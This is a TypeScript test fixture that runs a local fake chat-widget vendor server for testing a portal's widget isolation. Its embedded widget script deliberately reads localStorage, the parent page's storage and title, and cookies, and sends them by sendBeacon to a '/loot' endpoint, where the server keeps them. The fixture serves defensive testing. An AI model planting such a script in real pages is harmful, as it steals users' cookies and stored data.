import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/** Whose chat widgets and referrals a portal uses, at an origin of their own. */
export type Vendor = {
  url: string;
  /** What was sent there, by the widgets among others. */
  posted: { path: string; body: string }[];
  close(): void;
};

/**
 * A support widget as its vendor would write it: it shows a button in its place, with the token it was given. This one also
 * tries to take what the page keeps.
 */
const widget = `(() => {
  const name = document.currentScript.dataset.widget;
  const mine = window.chatSupport[name];
  const taken = (read) => { try { return String(read() ?? ''); } catch (error) { return error.name; } };
  const loot = [taken(() => JSON.stringify(localStorage)), taken(() => parent.localStorage.length), taken(() => parent.document.title), taken(() => document.cookie)];
  navigator.sendBeacon(new URL('/loot', document.currentScript.src), loot.join());
  const { src } = document.currentScript;
  const button = document.createElement('button');
  button.textContent = 'Chat ' + name + ' ' + mine.token.length + ' ' + mine.person.email;
  mine.container.append(button);
  mine.onStop.push(() => { navigator.sendBeacon(new URL('/stopped', src), name); });
})()`;

/** Answers every address with the widget's script, and keeps what is posted. */
export const startVendor = async (): Promise<Vendor> => {
  const posted: Vendor['posted'] = [];
  const server = createServer((request, reply) => {
    const { method, url: path = '' } = request;
    if (method === 'POST') void text(request).then((body) => posted.push({ path, body }));
    reply.setHeader('content-type', 'text/javascript').end(method === 'POST' ? '' : widget);
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://localhost:${port}`, posted, close: () => server.close() };
};
